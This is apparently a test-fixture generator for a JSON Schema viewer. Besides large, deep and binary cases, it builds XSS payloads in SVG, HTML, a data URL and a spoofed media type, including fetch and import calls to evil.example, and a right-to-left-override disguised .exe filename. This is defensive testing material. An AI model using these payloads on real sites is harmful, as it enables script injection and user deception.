// Generated cases, as JSON text: long ones, deep ones, and those with binary content.
import { compass, hills, ofText, paper, tone } from "./media.mjs";
import { readings, schema } from "./table.mjs";

const DRAFT = "https://json-schema.org/draft/2020-12/schema";

const media = (title, contentMediaType, more = {}) => ({ title, type: "string", contentEncoding: "base64", contentMediaType, ...more });

const texts = ({ schema, value }) => ({ schema: schema && JSON.stringify(schema), value: JSON.stringify(value) });

/** Attempts to run code: each would call `pwned`, or send a request to evil.example. */
const RUNNING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="160" height="160" onload="parent.pwned('svg onload')"><script>parent.pwned('svg script');fetch('https://evil.example/svg')</script><style>@import url(https://evil.example/style.css);circle{fill:url(https://evil.example/fill)}</style><image href="https://evil.example/image.png" width="10" height="10"/><foreignObject width="100" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/x" onerror="parent.pwned('svg foreign')"/></body></foreignObject><a xlink:href="javascript:parent.pwned('svg a')"><circle cx="50" cy="50" r="40" fill="crimson"/></a></svg>`;
const PAGE = `<!doctype html><script>opener.pwned('html')</script><img src=https://evil.example/html.png onerror="parent.pwned('html img')">`;

/** A folder with three items, which are folders but for the lowest level. */
function folder(name, levels) {
  const item = (at) => (levels > 1 ? folder(`${name}-${at}`, levels - 1) : { name: `${name}-${at}.txt`, kind: "file", bytes: 1024 * at + 13 });
  return { name, kind: "folder", inside: [1, 2, 3].map(item) };
}

export const made = {
  tree: () =>
    texts({
      schema: {
        $schema: DRAFT,
        title: "Folder",
        type: "object",
        properties: {
          name: { title: "Name", type: "string" },
          kind: { title: "Kind", oneOf: [{ const: "folder", title: "Folder" }, { const: "file", title: "File" }] },
          bytes: { title: "Size in bytes", type: "integer" },
          inside: { title: "Inside", type: "array", items: { $ref: "#" } },
        },
      },
      value: folder("archive", 4),
    }),

  table: () => texts({ schema, value: readings(5_000) }),

  media: () =>
    texts({
      schema: {
        $schema: DRAFT,
        title: "A field trip",
        type: "object",
        properties: {
          view: media("The view", "image/png", { description: "From the summit, in the evening." }),
          compass: media("The compass", "image/svg+xml"),
          horn: media("The foghorn", "audio/wav"),
          report: media("The report", "application/pdf"),
          notes: media("Notes", "text/plain"),
          page: media("A page", "text/html"),
          raw: { title: "Bytes of no known kind", type: "string", contentEncoding: "base64" },
          broken: media("A picture that is none", "image/png"),
        },
      },
      value: {
        view: hills(),
        compass: ofText(compass),
        horn: tone(),
        report: ofText(paper),
        notes: ofText("Gusts of 24 m/s.\nNothing else.\n"),
        page: ofText("<!doctype html><title>A page</title><p>Shown as its source, or not at all."),
        raw: "AAECAwQFBgc=",
        broken: "!!! this is not base64",
      },
    }),

  pictures: () =>
    texts({
      schema: {
        $schema: DRAFT,
        title: "Pictures that would run",
        type: "object",
        properties: {
          svg: media("A picture with a script in it", "image/svg+xml"),
          html: media("A page that says it is a picture", "image/png"),
          page: media("A page", "text/html"),
          type: media("A media type that is markup", "image/png\"><script>pwned('type')</script>"),
          script: media("A script", "text/javascript"),
          plain: { title: "A data URL", type: "string", format: "uri" },
        },
      },
      value: {
        svg: ofText(RUNNING),
        html: ofText(PAGE),
        page: ofText(PAGE),
        type: ofText(PAGE),
        script: ofText("parent.pwned('script')"),
        plain: `data:text/html,${PAGE}`,
      },
    }),

  deep() {
    let value = JSON.stringify("The bottom");
    for (let level = 100; level > 0; level -= 1) value = level % 3 === 0 ? `[${value}]` : `{"level":${level},"inside":${value}}`;
    const schema = { $schema: DRAFT, title: "A well", type: "object", properties: { level: { title: "Level", type: "integer" }, inside: { title: "Inside", $ref: "#" } } };
    return { schema: JSON.stringify(schema), value };
  },

  wide: () =>
    texts({
      schema: { $schema: DRAFT, title: "Counters", type: "object", additionalProperties: { type: "integer" } },
      value: Object.fromEntries(Array.from({ length: 50_000 }, (_, at) => [`counter-${String(at).padStart(5, "0")}`, at * 7])),
    }),

  huge: () =>
    texts({
      schema: { $schema: DRAFT, title: "A scan", type: "object", properties: { name: { title: "Name", type: "string" }, scan: media("Scan", "image/tiff"), text: { title: "Said to be text", type: "string" } } },
      value: { name: "scan-1.tiff", scan: "QUJD".repeat(5_000_000), text: "QUJD".repeat(250_000) },
    }),

  letters: () =>
    texts({
      schema: {
        $schema: DRAFT,
        title: "Letters that mislead",
        type: "object",
        properties: {
          override: { title: "Turned around", type: "string" },
          isolate: { title: "Left open", type: "string" },
          invisible: { title: "Nothing to be seen", type: "string" },
          word: { title: "A word of 100,000 letters", type: "string" },
          stacked: { title: "Stacked marks", type: "string" },
          control: { title: "Control characters", type: "string" },
          hebrew: { title: "Honest right-to-left", type: "string" },
          astral: { title: "Beyond the first plane", type: "string" },
          lines: { title: "5,000 lines", type: "string" },
        },
      },
      value: {
        override: "invoice-\u202egnp.exe",
        isolate: "\u2067\u202b\u2066never closed",
        invisible: "\u200b\u200c\u200d\u2060\ufeff\u00ad\u3164",
        word: "w".repeat(100_000),
        stacked: `Z${"\u0335\u0341\u035c\u0489".repeat(60)}`,
        control: "a\u0000b\u0007c\u001b[31md\r\ne\tf\u2028g\u0085h",
        hebrew: "שלום, עולם! 123 ABC",
        astral: "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
        lines: Array.from({ length: 5_000 }, (_, at) => `line ${at + 1}`).join("\n"),
        "na\u202eme": "a name that turns around",
        "": "no name",
        " ": "a blank for a name",
      },
    }),
};
